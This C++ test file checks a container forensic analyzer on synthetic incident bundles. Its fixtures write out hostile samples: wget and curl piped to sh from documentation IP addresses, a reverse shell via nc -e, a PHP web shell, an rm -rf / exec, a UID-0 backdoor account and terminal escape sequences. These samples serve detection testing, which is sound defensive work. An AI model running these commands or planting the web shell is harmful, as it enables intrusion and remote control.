// The analyzer on synthetic bundles built in a temporary directory (docs/bundle.md layout): a
// tar written with libarchive, a capture written with libpcap, JSON files, SHA256SUMS.
#include <archive.h>
#include <archive_entry.h>
#include <doctest/doctest.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <set>

#include "analysis_packets.hpp"
#include "forensic/analysis/analyzer.hpp"
#include "forensic/io/sha256.hpp"
#include "forensic/text/terminal.hpp"

using namespace analysis_test;
using namespace forensic::analysis;
namespace fs = std::filesystem;
using nlohmann::json;

namespace {

struct temp_bundle {
  fs::path root;
  temp_bundle() {
    static int n = 0;
    root = fs::temp_directory_path() /
           ("analysis-bundle-" + std::to_string(::getpid()) + "-" + std::to_string(n++));
    fs::create_directories(root);
  }
  ~temp_bundle() {
    std::error_code ec;
    fs::remove_all(root, ec);
  }
  void write(const std::string& rel, const std::string& content) {
    fs::create_directories((root / rel).parent_path());
    std::ofstream(root / rel, std::ios::binary) << content;
  }
  // As the collector seals a bundle: manifest.json (forensic.bundle/1, whatever identity the
  // test wrote there kept) records every artifact, then SHA256SUMS lists every file.
  void seal() {
    std::vector<std::string> files;
    for (const auto& e : fs::recursive_directory_iterator(root)) {
      auto rel = e.path().lexically_relative(root).generic_string();
      if (e.is_regular_file() && rel != "SHA256SUMS" && rel != "manifest.json") {
        files.push_back(rel);
      }
    }
    std::sort(files.begin(), files.end());
    json manifest = json::object();
    if (std::ifstream in(root / "manifest.json"); in) {
      manifest = json::parse(in, nullptr, false);
      if (!manifest.is_object()) manifest = json::object();
    }
    manifest["schema"] = "forensic.bundle/1";
    manifest["artifacts"] = json::array();
    for (const auto& f : files) {
      manifest["artifacts"].push_back({{"artifact", f},
                                       {"path", f},
                                       {"size", fs::file_size(root / f)},
                                       {"sha256", forensic::io::sha256_file(root / f)}});
    }
    write("manifest.json", manifest.dump());
    files.push_back("manifest.json");
    std::sort(files.begin(), files.end());
    std::string sums;
    for (const auto& f : files) sums += forensic::io::sha256_file(root / f) + "  " + f + "\n";
    write("SHA256SUMS", sums);
  }
};

struct tar_file {
  std::string path;
  std::string content;
  unsigned mode = 0644;
  bool directory = false;
};

void write_tar(const fs::path& path, const std::vector<tar_file>& files) {
  archive* a = archive_write_new();
  archive_write_set_format_pax_restricted(a);
  REQUIRE(archive_write_open_filename(a, path.c_str()) == ARCHIVE_OK);
  for (const auto& f : files) {
    archive_entry* e = archive_entry_new();
    archive_entry_set_pathname(e, f.path.c_str());
    archive_entry_set_filetype(e, f.directory ? AE_IFDIR : AE_IFREG);
    archive_entry_set_perm(e, f.mode);
    archive_entry_set_size(e, static_cast<la_int64_t>(f.content.size()));
    archive_entry_set_mtime(e, 1700000000, 0);
    archive_write_header(a, e);
    if (!f.content.empty()) archive_write_data(a, f.content.data(), f.content.size());
    archive_entry_free(e);
  }
  archive_write_close(a);
  archive_write_free(a);
}

bool has(const analysis_report& r, const std::string& kind, const std::string& text,
         const std::string& source_part = {}) {
  for (const auto& f : r.findings) {
    if (f.kind == kind && f.summary.find(text) != std::string::npos &&
        f.source.find(source_part) != std::string::npos) {
      return true;
    }
  }
  return false;
}

// The demo incident, as collection would record it.
void build_incident(temp_bundle& b) {
  b.write("manifest.json",
          json{{"schema", "forensic.bundle/1"},
               {"case", "IR-7"},
               {"container", {{"id", std::string(64, 'a')}, {"name", "beacon|<x>"}}}}
              .dump());
  b.write(
      "engine/container-inspect.json",
      json{{"Id", std::string(64, 'a')}, {"Name", "/beacon"}, {"Config", {{"Image", "busybox"}}}}
          .dump());
  b.write("engine/diff.json", json::array({{{"Path", "/tmp"}, {"Kind", 0}},
                                           {{"Path", "/tmp/dropper.sh"}, {"Kind", 1}},
                                           {{"Path", "/var/spool/cron/crontabs"}, {"Kind", 1}},
                                           {{"Path", "/var/spool/cron/crontabs/root"}, {"Kind", 1}},
                                           {{"Path", "/etc/passwd"}, {"Kind", 0}},
                                           {{"Path", "/usr/local/bin/miner"}, {"Kind", 1}},
                                           {{"Path", "/var/www/html/up.php"}, {"Kind", 1}},
                                           {{"Path", "/root/.secret"}, {"Kind", 1}},
                                           {{"Path", "/var/log/auth.log"}, {"Kind", 2}}})
                                  .dump());
  fs::create_directories(b.root / "filesystem");
  write_tar(b.root / "filesystem/export.tar",
            {{"tmp/", "", 01777, true},
             {"tmp/dropper.sh", "wget -q -O- http://203.0.113.66:4444/x | sh\n"},
             {"var/spool/cron/crontabs/root", "* * * * * /tmp/dropper.sh # 203.0.113.66\n", 0600},
             {"etc/passwd", "root:x:0:0:root:/root:/bin/sh\ntoor:x:0:0::/:/bin/sh\n"},
             {"usr/local/bin/miner",
              std::string("\x7f"
                          "ELF\x02\x01",
                          6),
              0755},
             {"var/www/html/up.php", "<?php system($_GET['c']); ?>"},
             {"root/.secret", "k"},
             {"usr/bin/su", "su", 04755},
             {"../../etc/evil\x1b[31m", "hostile name"},
             {"bin/ls", "ls", 0755}});
  b.write(
      "processes/processes.json",
      json{{"processes",
            json::array({{{"pid", 4242},
                          {"ns_pid", 1},
                          {"comm", "sh"},
                          {"cmdline", {"sh", "-c", "while true; do nc 203.0.113.66 4444; done"}},
                          {"exe", "/bin/busybox"},
                          {"exe_deleted", false},
                          {"start_time", "2026-11-23T09:00:00Z"},
                          {"fds", json::array({{{"fd", 3}, {"target", "socket:[777]"}}})}},
                         {{"pid", 4243},
                          {"comm", "kworkerx"},
                          {"exe", "/tmp/.x (deleted)"},
                          {"exe_deleted", true},
                          {"exe_sha256", std::string(64, 'b')},
                          {"start_time", "2026-11-23T09:00:05Z"}}})}}
          .dump());
  b.write("network/network.json", json{{"sockets", json::array({{{"protocol", "tcp"},
                                                                 {"local_address", "172.18.0.2"},
                                                                 {"local_port", 40000},
                                                                 {"remote_address", "203.0.113.66"},
                                                                 {"remote_port", 4444},
                                                                 {"state", "ESTABLISHED"},
                                                                 {"inode", 777},
                                                                 {"pid", 4242},
                                                                 {"comm", "nc"}},
                                                                {{"protocol", "tcp"},
                                                                 {"local_address", "0.0.0.0"},
                                                                 {"local_port", 31337},
                                                                 {"remote_address", "0.0.0.0"},
                                                                 {"remote_port", 0},
                                                                 {"state", "LISTEN"}}})},
                                       {"conntrack", json::array({{{"protocol", "tcp"},
                                                                   {"src", "172.18.0.2"},
                                                                   {"dst", "203.0.113.66"},
                                                                   {"sport", 40001},
                                                                   {"dport", 4444},
                                                                   {"state", "SYN_SENT"},
                                                                   {"unreplied", true}}})}}
                                      .dump());
  fs::create_directories(b.root / "capture");
  std::vector<timed_packet> ps;
  for (int i = 0; i < 4; ++i) {
    ps.push_back(
        {1700000000 + i, ethernet(ipv4("172.18.0.2", "203.0.113.66", 6,
                                       tcp(static_cast<std::uint16_t>(40100 + i), 4444, 0x02)))});
  }
  ps.push_back({1700000005, ethernet(ipv4("172.18.0.2", "172.18.0.1", 17,
                                          udp(5353, 53, dns("c2.evil.example"))))});
  write_capture((b.root / "capture/capture.pcapng").string(), DLT_EN10MB, ps);
  b.write("logs/stdout.log",
          "2026-11-23T09:00:01.000000001Z connecting to 203.0.113.66\n"
          "2026-11-23T09:00:02.000000001Z nothing to see\n");
}

}  // namespace

TEST_CASE("an incident bundle: files, persistence, processes, sockets, capture, IOCs, timeline") {
  temp_bundle b;
  build_incident(b);
  b.seal();
  analysis_options o;
  o.iocs = ioc_set::parse("ip 203.0.113.66 # C2\ndomain evil.example\nsha256 " +
                          std::string(64, 'b') + "\n");
  auto r = analyze_bundle(b.root, o);

  CHECK(r.verification.status == "verified");
  CHECK(r.container_name == "beacon|<x>");
  CHECK(r.case_id == "IR-7");
  CHECK(has(r, "temp_file", "/tmp/dropper.sh", "engine/diff.json"));
  CHECK(has(r, "persistence", "/var/spool/cron/crontabs/root", "filesystem/export.tar"));
  CHECK_FALSE(has(r, "persistence", "/var/spool/cron/crontabs:"));  // the parent directory
  CHECK(has(r, "account_change", "/etc/passwd"));
  CHECK(has(r, "new_executable", "/usr/local/bin/miner"));
  CHECK(has(r, "web_script", "/var/www/html/up.php"));
  CHECK(has(r, "hidden_file", "/root/.secret"));
  CHECK(has(r, "log_deleted", "/var/log/auth.log"));
  CHECK(has(r, "setuid", "/usr/bin/su"));
  CHECK_FALSE(has(r, "new_executable", "/bin/ls"));
  CHECK(has(r, "shell_with_socket", "sh (pid 4242)", "processes/processes.json"));
  CHECK(has(r, "deleted_executable", "kworkerx"));
  CHECK(has(r, "unexpected_listener", ":31337", "network/network.json"));
  CHECK(has(r, "remote_socket", "203.0.113.66:4444", "network/network.json"));
  CHECK(has(r, "unreplied_flow", "203.0.113.66", "network/network.json"));
  CHECK(has(r, "external_traffic", "203.0.113.66:4444/tcp", "capture/capture.pcapng"));
  CHECK(has(r, "unanswered_syn", "4 TCP connection attempt(s) to 203.0.113.66:4444/tcp"));
  CHECK(has(r, "dns_query", "c2.evil.example"));
  // IOC hits, each saying where.
  CHECK(has(r, "ioc_match", "203.0.113.66", "capture/capture.pcapng"));
  CHECK(has(r, "ioc_match", "203.0.113.66", "network/network.json"));
  CHECK(has(r, "ioc_match", "evil.example", "capture/capture.pcapng"));
  CHECK(has(r, "ioc_match", "file /var/spool/cron/crontabs/root", "filesystem/export.tar"));
  CHECK(has(r, "ioc_match", "file /tmp/dropper.sh", "filesystem/export.tar"));  // "ADDR:port"
  CHECK(has(r, "ioc_match", std::string(64, 'b'), "processes/processes.json"));
  CHECK(has(r, "ioc_match", "log line", "logs/stdout.log"));
  // Every finding names its bundle file.
  for (const auto& f : r.findings) CHECK_FALSE(f.source.empty());
  // High first.
  CHECK(r.findings.front().level == severity::high);
  // Timeline in UTC, sorted, from files, processes, logs and flows.
  REQUIRE(r.timeline.size() >= 6);
  CHECK(std::is_sorted(r.timeline.begin(), r.timeline.end(),
                       [](const auto& x, const auto& y) { return x.time < y.time; }));
  std::set<std::string> kinds;
  for (const auto& e : r.timeline) kinds.insert(e.kind);
  CHECK(kinds.count("file_mtime"));
  CHECK(kinds.count("process_start"));
  CHECK(kinds.count("log"));
  CHECK(kinds.count("flow_first"));
  CHECK(r.flows.size() == 5);

  auto doc = to_json(r);
  CHECK(doc["schema"] == "forensic.analysis/1");
  CHECK(doc["verification"]["status"] == "verified");
  CHECK(doc["findings"].size() == r.findings.size());
  auto md = to_markdown(r);
  CHECK(md.find("# Incident analysis: beacon\\|&lt;x&gt;") != std::string::npos);
  CHECK(md.find("Integrity: **verified**") != std::string::npos);
  CHECK(md.find("\x1b") == std::string::npos);  // the hostile tar name never reaches a terminal
}

TEST_CASE("an IOC address does not match inside a longer address") {
  temp_bundle b;
  build_incident(b);
  b.seal();
  analysis_options o;
  o.iocs = ioc_set::parse("203.0.113.6\n");
  auto r = analyze_bundle(b.root, o);
  for (const auto& f : r.findings) CHECK(f.kind != "ioc_match");
}

TEST_CASE("a tampered bundle is reported as failing verification, and still analysed") {
  temp_bundle b;
  build_incident(b);
  b.seal();
  b.write("logs/stdout.log", "2026-11-23T09:00:01Z rewritten\n");
  b.write("extra.txt", "not listed");
  std::ofstream(b.root / "SHA256SUMS", std::ios::app)
      << std::string(64, '0') << "  ../../etc/passwd\n";
  auto r = analyze_bundle(b.root);
  CHECK(r.verification.status == "failed");
  auto problems = [&](const std::string& s) {
    for (const auto& p : r.verification.problems) {
      if (p.find(s) != std::string::npos) return true;
    }
    return false;
  };
  CHECK(problems("logs/stdout.log: sha256 mismatch"));
  CHECK(problems("extra.txt: present but not in SHA256SUMS"));
  CHECK(problems("../../etc/passwd: path leaves the bundle"));
  CHECK(r.findings.front().kind == "verification_failed");
  CHECK(has(r, "temp_file", "/tmp/dropper.sh"));
  CHECK(to_markdown(r).find("failed verification") != std::string::npos);
}

TEST_CASE("an empty or partial bundle: every file is optional") {
  temp_bundle b;
  auto r = analyze_bundle(b.root);
  CHECK(r.verification.status == "unverified");
  REQUIRE(r.findings.size() == 1);
  CHECK(r.findings[0].kind == "unverified");
  CHECK(std::find(r.files_missing.begin(), r.files_missing.end(), "capture/capture.pcapng") !=
        r.files_missing.end());
  b.write("engine/diff.json", "{not json");
  b.write("network/network.json", "[]");
  b.write("capture/capture.pcapng", "garbage");
  b.write("filesystem/export.tar", "garbage that is not a tar");
  auto r2 = analyze_bundle(b.root);
  CHECK(r2.warnings.size() >= 2);
  CHECK_THROWS(analyze_bundle(b.root / "no-such-dir"));
}

TEST_CASE("a field of an unexpected type reads as absent; the rest of its part is analysed") {
  temp_bundle b;
  b.write("manifest.json",
          json({{"container", {{"id", 42}, {"name", json::array()}}}, {"container_name", "web"}})
              .dump());
  b.write("engine/diff.json", json::array({{{"Path", "/tmp/odd"}, {"Kind", "added"}},
                                           {{"Path", "/tmp/x.sh"}, {"Kind", 1}}})
                                  .dump());
  // The first process's flag is a string: it must not cost the second its finding.
  b.write("processes/processes.json",
          json({{"processes", json::array({{{"pid", 7}, {"comm", "a"}, {"exe_deleted", "yes"}},
                                           {{"pid", 8},
                                            {"comm", "implant"},
                                            {"exe", "/usr/bin/implant (deleted)"},
                                            {"exe_deleted", true}}})}})
              .dump());
  b.write("network/network.json", json({{"sockets", json::array()},
                                        {"conntrack", json::array({{{"protocol", "tcp"},
                                                                    {"src", "172.18.0.2"},
                                                                    {"dst", "172.18.0.9"},
                                                                    {"unreplied", 1}},
                                                                   {{"protocol", "tcp"},
                                                                    {"src", "172.18.0.2"},
                                                                    {"dst", "172.18.0.10"},
                                                                    {"unreplied", true}}})}})
                                      .dump());
  auto r = analyze_bundle(b.root);
  for (const auto& w : r.warnings) CHECK(w.find("unexpected JSON structure") == std::string::npos);
  CHECK(r.container_id == "42");
  CHECK(r.container_name == "web");
  CHECK(has(r, "deleted_executable", "implant (pid 8)"));
  CHECK_FALSE(has(r, "deleted_executable", "a (pid 7)"));
  CHECK(has(r, "unreplied_flow", "172.18.0.10"));
  CHECK_FALSE(has(r, "unreplied_flow", "172.18.0.9"));
}

TEST_CASE("files the collector took from beyond PATH_MAX are high findings, with their content") {
  temp_bundle b;
  std::string deep = "tmp";
  for (int i = 0; i < 20; ++i) deep += "/" + std::string(200, 'a');
  b.write("manifest.json", json({{"container", {{"id", "abc"}, {"name", "web"}}}}).dump());
  fs::create_directories(b.root / "filesystem");
  write_tar(
      b.root / "filesystem/deep-paths.tar",
      {{deep, "", 0755, true}, {deep + "/stash.sh", "#!/bin/sh\nwget http://203.0.113.9/x\n"}});
  b.seal();
  analysis_options o;
  o.iocs = ioc_set::parse("ip 203.0.113.9\n");
  auto r = analyze_bundle(b.root, o);
  CHECK(r.verification.status == "verified");
  CHECK(has(r, "beyond_path_max", "/stash.sh", "filesystem/deep-paths.tar"));
  CHECK(has(r, "ioc_match", "203.0.113.9", "filesystem/deep-paths.tar"));
  for (const auto& f : r.findings) {
    if (f.kind != "beyond_path_max") continue;
    CHECK(f.level == severity::high);
    CHECK(f.details["content_head"].get<std::string>().find("wget") != std::string::npos);
    CHECK(f.details["path_bytes"] == deep.size() + 1 + 9);
  }
  // A bundle without one does not list it as missing: it is there only when needed.
  temp_bundle plain;
  auto r2 = analyze_bundle(plain.root);
  CHECK(std::find(r2.files_missing.begin(), r2.files_missing.end(), "filesystem/deep-paths.tar") ==
        r2.files_missing.end());
}

TEST_CASE(
    "network.json parts as ir-collect writes them: collected items are analysed, the rest "
    "is not mistaken for an answer") {
  temp_bundle b;
  b.write("manifest.json", json({{"container", {{"id", "abc"}, {"name", "web"}}}}).dump());
  b.write("processes/processes.json",
          json({{"processes",
                 json::array({{{"pid", 4242},
                               {"comm", "sh"},
                               {"fds", json::array({{{"fd", 3}, {"target", "socket:[777]"}}})}}})}})
              .dump());
  const json socket = {{"protocol", "tcp"},   {"local_address", "172.18.0.2"},
                       {"local_port", 40000}, {"remote_address", "203.0.113.66"},
                       {"remote_port", 4444}, {"state", "ESTABLISHED"},
                       {"inode", 777},        {"pid", 4242},
                       {"ns_pid", 7},         {"comm", "nc"}};
  const json flow = {{"protocol", "tcp"},
                     {"src", "172.18.0.2"},
                     {"dst", "203.0.113.66"},
                     {"sport", 40001},
                     {"dport", 4444},
                     {"reply_src", "203.0.113.66"},
                     {"reply_dst", "192.0.2.10"},
                     {"reply_sport", 4444},
                     {"reply_dport", 61001},
                     {"state", "SYN_SENT"},
                     {"unreplied", true}};
  b.write("network/network.json",
          json({{"sockets", {{"collected", true}, {"items", json::array({socket})}}},
                {"conntrack", {{"collected", true}, {"items", json::array({flow})}}},
                {"iptables", {{"collected", false}, {"reason", "iptables-save failed"}}}})
              .dump());
  auto r = analyze_bundle(b.root);
  CHECK(has(r, "remote_socket", "203.0.113.66:4444", "network/network.json"));
  CHECK(has(r, "unreplied_flow", "203.0.113.66", "network/network.json"));
  CHECK(has(r, "shell_with_socket", "sh (pid 4242)", "processes/processes.json"));
  REQUIRE(r.sockets.size() == 1);
  CHECK(r.conntrack.size() == 1);

  // A part that was not collected yields nothing, and the other part still does.
  temp_bundle partial;
  partial.write("manifest.json", json({{"container", {{"id", "abc"}, {"name", "web"}}}}).dump());
  partial.write("network/network.json",
                json({{"sockets", {{"collected", false}, {"reason", "process gone"}}},
                      {"conntrack", {{"collected", true}, {"items", json::array({flow})}}}})
                    .dump());
  auto p = analyze_bundle(partial.root);
  CHECK(p.sockets.empty());
  CHECK(has(p, "unreplied_flow", "203.0.113.66", "network/network.json"));
}

namespace {

const timeline_event* event_of(const analysis_report& r, const std::string& kind,
                               const std::string& text) {
  for (const auto& e : r.timeline) {
    if (e.kind == kind && e.summary.find(text) != std::string::npos) return &e;
  }
  return nullptr;
}

}  // namespace

TEST_CASE("every timeline event says whether its clock is attacker-settable") {
  temp_bundle b;
  build_incident(b);
  b.seal();
  const auto r = analyze_bundle(b.root, {});
  std::set<std::string> kinds;
  for (const auto& e : r.timeline) {
    kinds.insert(e.kind);
    const json j = to_json(e);
    REQUIRE(j.contains("time_source"));
    REQUIRE(j.contains("settable"));
    CHECK(j["settable"].get<bool>() == (e.kind == "file_mtime" || e.kind == "file_atime"));
    if (e.kind == "file_mtime") CHECK(j["time_source"] == "attacker-settable");
    if (e.kind == "process_start" || e.kind == "flow_first" || e.kind == "dns") {
      CHECK(j["time_source"] == "kernel");
    }
    if (e.kind == "log") CHECK(j["time_source"] == "engine");
  }
  CHECK(kinds.count("file_mtime"));
  CHECK(kinds.count("process_start"));
  CHECK(to_markdown(r).find("file_mtime (settable)") != std::string::npos);
}

TEST_CASE("the bodyfile's four clocks are timeline events; an mtime before birth is forged") {
  temp_bundle b;
  b.write("filesystem/bodyfile.txt",
          // A regular file whose mtime was set back before it existed.
          "0|/tmp/implant|12|-rwxr-xr-x|0|0|100|1700000300.5|1500000000|1700000200.123456789|"
          "1700000100\n"
          // A directory: not on the timeline.
          "0|/tmp|2|drwxrwxrwt|0|0|4096|1700000400|1700000400|1700000400|1700000000\n"
          // A whiteout: a file of the image deleted; no birth time (0).
          "0|/usr/bin/wget|13|c---------|0|0|0|1700000500|1700000500|1700000500|0\n"
          // A name with an escaped '|' and newline, from a mount.
          "0|/dev/shm/a%7Cb%0A|14|-rw-r--r--|0|0|3|0|1700000600|1700000600|0\n"
          "not a body line\n");
  b.seal();
  const auto r = analyze_bundle(b.root, {});
  const auto* m = event_of(r, "file_mtime", "/tmp/implant");
  REQUIRE(m);
  CHECK(m->time == "2017-07-14T02:40:00.000000Z");
  CHECK(m->clock == time_source::attacker_settable);
  CHECK(m->source == "filesystem/bodyfile.txt");
  const auto* a = event_of(r, "file_atime", "/tmp/implant");
  REQUIRE(a);
  CHECK(a->time == "2023-11-14T22:18:20.500000Z");
  CHECK(a->clock == time_source::attacker_settable);
  const auto* ct = event_of(r, "file_ctime", "/tmp/implant");
  REQUIRE(ct);
  CHECK(ct->time == "2023-11-14T22:16:40.123456Z");
  CHECK(ct->clock == time_source::kernel);
  const auto* bt = event_of(r, "file_btime", "/tmp/implant");
  REQUIRE(bt);
  CHECK(bt->clock == time_source::kernel);
  CHECK(event_of(r, "file_mtime", "/tmp\n") == nullptr);
  for (const auto& e : r.timeline) CHECK(e.summary.find("/tmp ") == std::string::npos);
  CHECK(event_of(r, "file_ctime", "whiteout (deleted from the image) /usr/bin/wget"));
  CHECK_FALSE(event_of(r, "file_btime", "/usr/bin/wget"));
  // Decoded, then escaped for terminals in the summary.
  CHECK(event_of(r, "file_mtime", forensic::text::escape_for_terminal("/dev/shm/a|b\n")));
  CHECK_FALSE(event_of(r, "file_atime", "/dev/shm/a|b"));  // atime 0: none
  CHECK(has(r, "mtime_before_birth", "/tmp/implant", "filesystem/bodyfile.txt"));
  CHECK_FALSE(has(r, "mtime_before_birth", "/dev/shm"));
  bool warned = false;
  for (const auto& w : r.warnings) warned |= w.find("11 fields") != std::string::npos;
  CHECK(warned);
}

TEST_CASE("files of the copied mounts go through the export's rules, naming their tar") {
  temp_bundle b;
  b.write(
      "mounts/mounts.json",
      json{{"container_id", std::string(64, 'a')},
           {"mounts", json::array({{{"index", 3},
                                    {"destination", "/dev/shm"},
                                    {"type", "tmpfs"},
                                    {"copied", true},
                                    {"tar", "mounts/3-dev_shm.tar"}},
                                   {{"index", 4},
                                    {"destination", "/etc/cron.d"},
                                    {"type", "volume"},
                                    {"copied", true},
                                    {"tar", "mounts/4-etc_cron.d.tar"}},
                                   {{"index", 5},
                                    {"destination", "/escape"},
                                    {"copied", true},
                                    {"tar", "../outside.tar"}},
                                   {{"index", 6}, {"destination", "/proc"}, {"copied", false}}})}}
          .dump());
  fs::create_directories(b.root / "mounts");
  write_tar(b.root / "mounts/3-dev_shm.tar", {{"dev/shm", "", 01777, true},
                                              {"dev/shm/.x",
                                               "\x7f"
                                               "ELF\x02\x01\x01 payload",
                                               0755}});
  // A tar named from the mount's root: its entries are placed under the destination.
  write_tar(b.root / "mounts/4-etc_cron.d.tar",
            {{"job", "* * * * * root curl http://203.0.113.9/x | sh\n", 0644}});
  b.seal();
  analysis_options o;
  o.iocs = ioc_set::parse("203.0.113.9\n");
  const auto r = analyze_bundle(b.root, o);
  bool dropped = false;
  for (const auto& f : r.findings) {
    if (f.category == "filesystem" && f.summary.find("/dev/shm/.x") != std::string::npos) {
      dropped = true;
      CHECK(f.source == "mounts/3-dev_shm.tar");
      CHECK(f.details.value("path", "") == "/dev/shm/.x");
      CHECK(f.details.value("mount", "") == "/dev/shm");
      CHECK(f.level == severity::high);
    }
  }
  CHECK(dropped);
  CHECK(has(r, "ioc_match", "/etc/cron.d/job", "mounts/4-etc_cron.d.tar"));
  CHECK(has(r, "persistence", "/etc/cron.d/job", "mounts/4-etc_cron.d.tar"));
  for (const auto& f : r.findings) CHECK(f.source.find("outside") == std::string::npos);
  CHECK(std::find(r.files_read.begin(), r.files_read.end(), "mounts/3-dev_shm.tar") !=
        r.files_read.end());
}

TEST_CASE("docker exec history from the engine's events: timeline events and findings") {
  temp_bundle b;
  const std::string id(64, 'a'), sibling(64, 'b');
  b.write("manifest.json", json{{"container", {{"id", id}, {"name", "web"}}}}.dump());
  const auto ev = [](const std::string& action, const std::string& actor, long long ns) {
    return json{{"Type", "container"},
                {"Action", action},
                {"Actor", {{"ID", actor}, {"Attributes", {{"execID", "e1"}}}}},
                {"time", ns / 1000000000},
                {"timeNano", ns}}
               .dump() +
           "\n";
  };
  b.write("engine/events.jsonl",
          ev("create", id, 1700000000000000000) + ev("exec_create: id", id, 1700000100000000000) +
              ev("exec_start: id", id, 1700000100500000000) +
              ev("exec_create: sh -c 'nc -e /bin/sh 203.0.113.5 4444'", id, 1700000200000000000) +
              ev("exec_create: ls\x1b]0;x\x07", id, 1700000300000000000) +
              ev("exec_create: rm -rf /", sibling, 1700000400000000000) + "{not json\n");
  b.seal();
  const auto r = analyze_bundle(b.root, {});
  std::size_t execs = 0;
  for (const auto& f : r.findings) {
    if (f.kind != "engine_exec") continue;
    ++execs;
    CHECK(f.source == "engine/events.jsonl");
    CHECK(f.category == "process");
    CHECK(f.summary.find("rm -rf") == std::string::npos);  // another container's
    CHECK(f.summary.find('\x1b') == std::string::npos);
    if (f.details.value("command", "") == "id") CHECK(f.level == severity::medium);
    if (f.summary.find("nc -e") != std::string::npos) {
      CHECK(f.level == severity::high);
      CHECK(f.time == "2023-11-14T22:16:40.000000Z");
    }
  }
  CHECK(execs == 4);
  CHECK(has(r, "engine_exec", "exec started through the engine (docker exec): id"));
  CHECK(has(r, "engine_exec", "ls\\x1b]0;x\\x07"));
  const auto* e = event_of(r, "exec", "exec started through the engine: id");
  REQUIRE(e);
  CHECK(e->time == "2023-11-14T22:15:00.500000Z");
  CHECK(e->clock == time_source::engine);
  CHECK(to_json(*e)["settable"] == false);
  bool warned = false;
  for (const auto& w : r.warnings) warned |= w.find("events.jsonl") != std::string::npos;
  CHECK(warned);
}
